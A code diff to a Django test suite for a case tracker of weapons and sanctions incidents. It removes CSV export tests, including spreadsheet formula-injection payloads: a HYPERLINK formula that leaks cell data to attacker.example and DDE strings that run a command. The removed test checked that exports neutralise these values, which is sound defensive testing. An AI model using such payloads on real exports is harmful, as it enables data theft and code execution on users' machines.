@@ -1,4 +1,3 @@
-import csv
 import io
 import re
 from datetime import date
@@ -8,7 +7,6 @@ from django.contrib.auth import get_user_model
 from django.core.management import call_command
 from django.urls import reverse
 
-from tests import factories
 from tracker.models import Case, IncidentType, SanctionsProvision, WeaponSystem
 
 LIST = reverse("tracker:case_list")
@@ -309,57 +307,6 @@ def test_a_page_costs_the_same_queries_whatever_its_length(
     assert queries[25] == queries[100]
 
 
-def test_csv_export_holds_exactly_the_filtered_list(client, case_factory, monitor, add_item):
-    for _ in range(30):
-        case_factory(place_name="Kharkiv")
-    wanted = case_factory("submitted", place_name="Kharkiv", title="Debris, with a comma")
-    add_item(wanted, "UN Panel of Experts")
-    case_factory("submitted", place_name="Bryansk")
-    client.force_login(monitor)
-    response = client.get(
-        reverse("tracker:case_export"), {"q": "Kharkiv", "state": "submitted", "page": 3}
-    )
-    assert response["Content-Type"].startswith("text/csv")
-    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
-    assert [row["reference"] for row in rows] == [wanted.reference]
-    assert rows[0]["title"] == "Debris, with a comma"
-    assert rows[0]["state"] == "Submitted"
-    assert rows[0]["supporting sources"] == "1"
-
-
-def test_csv_export_of_everything_stays_within_what_the_user_may_see(
-    client, case_factory, stakeholder
-):
-    approved = case_factory("approved")
-    case_factory("submitted")
-    case_factory(created_by=factories.monitor("monitor3"))
-    client.force_login(stakeholder)
-    response = client.get(reverse("tracker:case_export"))
-    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
-    assert [row["reference"] for row in rows] == [approved.reference]
-
-
-FORMULAS = [
-    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the source")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "=1+1",
-]
-
-
-@pytest.mark.parametrize("title", FORMULAS)
-def test_csv_export_writes_formulas_as_text(client, case_factory, monitor, title):
-    case_factory(title=title, reported_quantity="-2 launchers", place_name="\tKharkiv")
-    client.force_login(monitor)
-    response = client.get(reverse("tracker:case_export"))
-    [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
-    assert row["title"] == "'" + title
-    assert row["reported quantity"] == "'-2 launchers"
-    assert row["place"] == "'\tKharkiv"
-    assert row["supporting sources"] == "0", "numbers stay numbers"
-
-
 def test_a_filter_value_it_cannot_read_is_explained_and_exports_nothing(
     client, case_factory, monitor
 ):
@@ -368,7 +315,7 @@ def test_a_filter_value_it_cannot_read_is_explained_and_exports_nothing(
     query = {"incident_from": "2024-13-01", "q": "x" * 201}
 
     page = client.get(LIST, query)
-    export = client.get(reverse("tracker:case_export"), query)
+    export = client.get(reverse("exchange:case_export", args=["csv"]), query)
 
     assert page.status_code == 200
     html = page.content.decode()
